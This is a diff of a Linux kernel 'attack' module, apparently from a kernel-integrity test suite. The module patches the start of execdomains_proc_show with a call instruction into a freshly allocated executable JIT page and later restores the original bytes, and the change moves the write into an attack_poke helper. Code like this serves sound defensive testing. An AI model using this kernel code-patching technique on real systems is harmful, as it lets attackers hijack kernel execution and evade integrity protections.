@@ -27,22 +27,11 @@ static const u8 code[] = {0x48, 0x83, 0xc4, 0x08, 0xb8, 0xfb, 0xff, 0xff, 0xff, 
 static struct bpf_ksym sym;
 static struct ftrace_ops ops;
 static u8 *page;
-static u64 old;
+static u8 old[5];
 
 static int set(unsigned long function)
 {
 	return ((int (*)(unsigned long, int))function)((unsigned long)page, 1);
-}
-
-static int write_place(u64 value)
-{
-	u8 *alias = attack_alias((void *)execdomains_proc_show_at);
-
-	if (!alias)
-		return -ENOMEM;
-	*(volatile u64 *)alias = value;
-	attack_unalias(alias);
-	return 0;
 }
 
 static void enlist(void)
@@ -62,7 +51,6 @@ static void enlist(void)
 static int run(void)
 {
 	u8 call[5] = {0xe8};
-	u64 value;
 	s32 away;
 
 	page = ((void *(*)(unsigned long))bpf_jit_alloc_exec_at)(PAGE_SIZE);
@@ -74,15 +62,13 @@ static int run(void)
 	enlist();
 	away = (s32)((unsigned long)page - (execdomains_proc_show_at + sizeof(call)));
 	memcpy(call + 1, &away, sizeof(away));
-	memcpy(&old, (void *)execdomains_proc_show_at, sizeof(old));
-	value = old;
-	memcpy(&value, call, sizeof(call));
-	return write_place(value);
+	memcpy(old, (void *)execdomains_proc_show_at, sizeof(old));
+	return attack_poke((u8 *)execdomains_proc_show_at, call);
 }
 
 static void undo(void)
 {
-	if (write_place(old))
+	if (attack_poke((u8 *)execdomains_proc_show_at, old))
 		pr_err("attack " KBUILD_MODNAME ": cannot be undone\n");
 	if (as_ftrace)
 		list_del_rcu(&ops.list);
